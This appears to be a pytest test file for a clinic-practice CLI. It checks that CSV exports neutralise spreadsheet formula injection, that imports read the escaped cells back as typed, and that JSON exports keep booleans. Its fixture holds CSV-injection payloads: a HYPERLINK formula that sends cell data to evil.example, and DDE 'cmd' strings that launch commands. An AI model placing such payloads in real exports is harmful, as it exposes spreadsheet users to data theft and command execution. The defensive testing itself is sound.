"""CSV exports never hand a spreadsheet a formula (CSV injection), the roster import reads the
escaped cells back as typed, and exported records carry real booleans."""

from __future__ import annotations

import csv
import json

import pytest

from facilitator_app.cli import main
from facilitator_app.core.csv_safe import cell_value as csv_cell_value
from facilitator_app.core.csv_safe import safe_cell as csv_safe_cell
from facilitator_app.store.exchange import PRACTICE_COLUMNS

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Oak Clinic")',
    "address": "+cmd|' /C calc'!A0",
    "region": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ehr_vendor": "-2+3",
}


def run(capsys, *argv):
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize("value, cell", [
    ("=1+2", "'=1+2"), ("+cmd", "'+cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("-2+3", "'-2+3"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'=1", "''=1"), ("''+x", "'''+x"),
    ("Oak Clinic", "Oak Clinic"), ("'quoted'", "'quoted'"), ("1-2", "1-2"), ("", ""), ("'", "'"),
])
def test_csv_safe_cell_and_back(value, cell):
    assert csv_safe_cell(value) == cell
    assert csv_cell_value(cell) == value


def test_export_escapes_formulas_and_import_reads_them_back(capsys, tmp_path, monkeypatch):
    source = tmp_path / "source"
    monkeypatch.setenv("FFK_DATA_DIR", str(source))
    code, _, err = run(capsys, "practice", "add", HOSTILE["name"], f"--address={HOSTILE['address']}",
                       f"--region={HOSTILE['region']}", f"--ehr={HOSTILE['ehr_vendor']}", "--state", "IL")
    assert code == 0, err
    code, out, err = run(capsys, "practice", "list", "--json")
    (pid,) = [p["id"] for p in json.loads(out)]
    assert run(capsys, "contact", "add", pid, "@Ana Muñoz", "--role", "champion")[0] == 0
    code, _, err = run(capsys, "export", "--format", "csv", "--out", tmp_path / "csv")
    assert code == 0, err
    with open(tmp_path / "csv" / "practices.csv", encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    for key, value in HOSTILE.items():
        assert row[key] == "'" + value, key
    with open(tmp_path / "csv" / "contacts.csv", encoding="utf-8", newline="") as fh:
        assert next(csv.DictReader(fh))["name"] == "'@Ana Muñoz"
    for path in (tmp_path / "csv").glob("*.csv"):
        with open(path, encoding="utf-8", newline="") as fh:
            for cells in csv.reader(fh):
                assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells), (path.name, cells)

    # A roster made from the export (the columns the import takes) reads back as typed.
    roster = tmp_path / "roster.csv"
    with open(roster, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=PRACTICE_COLUMNS, extrasaction="ignore")
        writer.writeheader()
        writer.writerow({k: row[k] for k in PRACTICE_COLUMNS})
    monkeypatch.setenv("FFK_DATA_DIR", str(tmp_path / "target"))
    code, _, err = run(capsys, "import", "practices", roster)
    assert code == 0, err
    code, out, _ = run(capsys, "practice", "show", HOSTILE["name"], "--json")
    practice = json.loads(out)["practice"]
    assert {k: practice[k] for k in HOSTILE} == HOSTILE


def test_json_export_carries_booleans(capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("FFK_DATA_DIR", str(tmp_path / "data"))
    assert run(capsys, "practice", "add", "Oak Clinic")[0] == 0
    assert run(capsys, "visit", "add", "Oak Clinic", "--minutes", "30", "--unplanned")[0] == 0
    assert run(capsys, "export", "--format", "json", "--out", tmp_path / "json")[0] == 0
    doc = json.loads((tmp_path / "json" / "fieldkit-export.json").read_text(encoding="utf-8"))
    assert doc["records"]["visit"][0]["planned"] is False
